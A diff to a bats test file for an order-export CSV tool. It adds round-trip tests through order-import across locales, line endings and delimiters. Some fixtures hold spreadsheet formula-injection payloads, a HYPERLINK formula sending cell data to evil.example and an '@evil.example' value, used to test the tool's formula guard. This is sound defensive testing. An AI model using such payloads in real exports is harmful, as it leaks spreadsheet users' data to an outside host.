@@ -1,13 +1,14 @@
 #!/usr/bin/env bats
 # order-export: records to CSV (columns, amounts by exponent, RFC 4180
 # quoting, line ends, --excel and the locale, the formula guard), rejects,
-# exit codes and the man page's examples.
+# exit codes, the man page's examples, and back through order-import.
 bats_require_minimum_version 1.5.0
 
 setup() {
 	load test_helper/common
 	REJECTS="$BATS_TEST_TMPDIR/rejects.jsonl"
 	OUT="$BATS_TEST_TMPDIR/out.csv"
+	MAP="$BATS_TEST_DIRNAME/../scripts/maps/orderkit.map"
 }
 
 # export_to FILE ARG...: order-export ARG... with standard output in FILE
@@ -21,6 +22,20 @@ export_to() {
 # hex FILE: the bytes of FILE as hex, for the CRs and the BOM.
 hex() {
 	od -An -tx1 "$1" | tr -d ' \n'
+}
+
+# same_orders A B: the records of A and B (JSON lines) are the same orders:
+# ids, timestamps, currencies, contacts, addresses, payments, items (sku,
+# name, variant, qty, prices) and totals, an empty string being none (as
+# order-import writes none) and an absent tax 0.
+same_orders() {
+	local norm='del(.. | select(. == "")) | {id, created_at, currency,
+	    customer, shipping, payment: (.payment | {method, provider, status}),
+	    items: [.items[] | {sku, name, variant, qty, unit_price, discount}
+	        | with_entries(select(.value != null))],
+	    totals: (.totals | {subtotal, shipping, discount, total,
+	        tax: (.tax // 0), tax_included})}'
+	assert_equal "$(jq -c "$norm" "$2")" "$(jq -c "$norm" "$1")"
 }
 
 # ------------------------------------------------------------ the columns
@@ -289,6 +304,65 @@ US-9;Jo O'"'"'Neil;12,99;19,06'
 "=HYPERLINK(""http://evil.example/?""&A1,""click"")",@evil.example,-2+3'
 }
 
+# -------------------------------------------------------- back to records
+
+@test "order-import --map orderkit.map reads --per item back: the same orders" {
+	export_to "$OUT" --per item "$FIXTURES/orders.jsonl"
+	run -0 --separate-stderr order-import --map "$MAP" "$OUT"
+	assert_stderr ''
+	echo "$output" >"$BATS_TEST_TMPDIR/back.jsonl"
+	same_orders "$FIXTURES/orders.jsonl" "$BATS_TEST_TMPDIR/back.jsonl"
+	assert_equal "$(jq -c '[.source, .status, .source_status.order]' \
+	    "$BATS_TEST_TMPDIR/back.jsonl" | paste -sd ' ')" \
+	    '["orderkit","new","validated"] ["orderkit","new","paid"] ["orderkit","new","reserved"] ["orderkit","new","new"]'
+	# The tax the JPY prices include stays included.
+	assert_equal "$(jq -c 'select(.id == "JP-77") | .totals' \
+	    "$BATS_TEST_TMPDIR/back.jsonl")" \
+	    '{"subtotal":4500,"shipping":0,"discount":0,"tax":0,"tax_included":409,"total":4500}'
+}
+
+@test "the round trip holds with --excel in a decimal-comma locale, with --crlf and with tabs" {
+	local opts
+	for opts in "--excel" "--crlf" "--delimiter tab" "--decimal , --excel"; do
+		# shellcheck disable=SC2086 # opts holds several words
+		LC_ALL=de_DE.UTF-8 export_to "$OUT" --per item $opts \
+		    "$FIXTURES/orders.jsonl"
+		run -0 --separate-stderr order-import --map "$MAP" "$OUT"
+		assert_stderr ''
+		echo "$output" >"$BATS_TEST_TMPDIR/back.jsonl"
+		same_orders "$FIXTURES/orders.jsonl" "$BATS_TEST_TMPDIR/back.jsonl"
+	done
+}
+
+@test "the round trip holds for a thousand generated orders" {
+	"$BATS_TEST_DIRNAME/bench/gen-orders" 1000 |
+	    jq -c 'select(all(.items[]; .qty > 0))' >"$BATS_TEST_TMPDIR/in.jsonl"
+	export_to "$OUT" --per item "$BATS_TEST_TMPDIR/in.jsonl"
+	run -0 --separate-stderr order-import --map "$MAP" "$OUT"
+	assert_stderr ''
+	echo "$output" >"$BATS_TEST_TMPDIR/back.jsonl"
+	assert_equal "$(count_lines "$BATS_TEST_TMPDIR/back.jsonl")" \
+	    "$(count_lines "$BATS_TEST_TMPDIR/in.jsonl")"
+	same_orders "$BATS_TEST_TMPDIR/in.jsonl" "$BATS_TEST_TMPDIR/back.jsonl"
+}
+
+@test "a guarded phone comes back without its '; --no-guard brings any text back as it was" {
+	export_to "$OUT" --per item "$FIXTURES/hostile.jsonl"
+	run -0 --separate-stderr order-import --map "$MAP" "$OUT"
+	assert_stderr ''
+	assert_equal "$(jq -r '.customer.phone, .customer.name' <<<"$output")" \
+	    "+7 916 123-45-67
+'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+	export_to "$OUT" --per item --no-guard "$FIXTURES/hostile.jsonl"
+	run -0 --separate-stderr order-import --map "$MAP" "$OUT"
+	assert_stderr ''
+	echo "$output" >"$BATS_TEST_TMPDIR/back.jsonl"
+	# order-import trims the white space around a field: the tab too.
+	jq -c '.items[0].name |= ltrimstr("\t")' "$FIXTURES/hostile.jsonl" \
+	    >"$BATS_TEST_TMPDIR/want.jsonl"
+	same_orders "$BATS_TEST_TMPDIR/want.jsonl" "$BATS_TEST_TMPDIR/back.jsonl"
+}
+
 # ---------------------------------------------------------------- rejects
 
 @test "records that are not orders are rejected with their codes and fields" {
@@ -436,4 +510,16 @@ SHOP-1001,Иван Петров,ivan.petrov@example.ru,3297.00,RUB
 JP-77,Sato Yuki,yuki@example.jp,4500,JPY
 KW-5,Fatima Al-Sabah,,14.260,KWD
 US-9,Jo O'Neil,jo@example.com,19.06,USD"
+}
+
+@test "example: a row per item, and back into records" {
+	cp "$FIXTURES/orders.jsonl" "$BATS_TEST_TMPDIR/orders.jsonl"
+	cd "$BATS_TEST_DIRNAME/.."
+	run -0 --separate-stderr sh -c '
+	    order-export --per item "$1/orders.jsonl" > "$1/items.csv"
+	    order-import --map scripts/maps/orderkit.map "$1/items.csv"' sh \
+	    "$BATS_TEST_TMPDIR"
+	assert_stderr ''
+	echo "$output" >"$BATS_TEST_TMPDIR/back.jsonl"
+	same_orders "$FIXTURES/orders.jsonl" "$BATS_TEST_TMPDIR/back.jsonl"
 }
